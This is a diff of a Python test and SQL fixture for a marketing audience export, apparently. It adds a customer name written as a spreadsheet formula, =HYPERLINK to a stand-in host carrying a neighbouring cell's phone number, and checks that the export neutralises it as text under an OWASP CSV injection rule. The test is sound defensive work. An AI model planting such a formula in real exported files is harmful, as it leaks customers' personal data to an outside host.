@@ -28,7 +28,8 @@ create schema restricted;
 create table restricted.segment_audience as select * from (values
     ('win_back_sms', 'sms', 'k1', '김민준', null, '+821010000001', 'r: 1', null, 'opt_in',
      true, 'Champions', 3, 4, 120000.00::decimal(18, 2)),
-    ('win_back_sms', 'sms', 'k2', '이서연', 'k2@x.kr', '+821010000002', 'r: 1', null,
+    ('win_back_sms', 'sms', 'k2', '=HYPERLINK("http://x.example/?"&B2,"보기")', 'k2@x.kr',
+     '+821010000002', 'r: 1', null,
      'recent_buyer_exception', false, 'At Risk', 90, 2, 30000.00),
     ('win_back_sms', 'sms', 'k3', '박지호', null, '+821010000003', 'r: 1', 'suppressed',
      'opt_in', false, null, null, null, null),
@@ -97,11 +98,16 @@ def test_the_list_holds_who_dbt_cleared_and_the_manifest_counts_the_rest(
         "customer_id": "k1",
     }
     assert rows[1]["consent_basis"] == "recent_buyer_exception"
+    # A name typed as a formula is text in both files, and the manifest says so.
+    assert rows[1]["name"] == '\'=HYPERLINK("http://x.example/?"&B2,"보기")'
+    assert sms["neutralised_cells"] == 1
+    assert manifest["formula_neutralisation"]["rule"] == "OWASP CSV injection"
     email = manifest["segments"]["win_back_email"]
     assert email["night_sending"] is True and email["excluded"]["no_night_consent"] == 1
     assert [r["email"] for r in read_csv(folder / "win_back_email.csv")] == ["k2@x.kr"]
     sheet = openpyxl.load_workbook(folder / "win_back_sms.xlsx").active
     assert sheet["B2"].value == "+821010000001" and sheet["B2"].number_format == "@"
+    assert sheet["A3"].data_type == "s" and sheet["A3"].value.startswith("=HYPERLINK(")
     assert manifest["suppression_list"] == {
         "path": str(tmp_path / "suppression.csv"),
         "found": False,
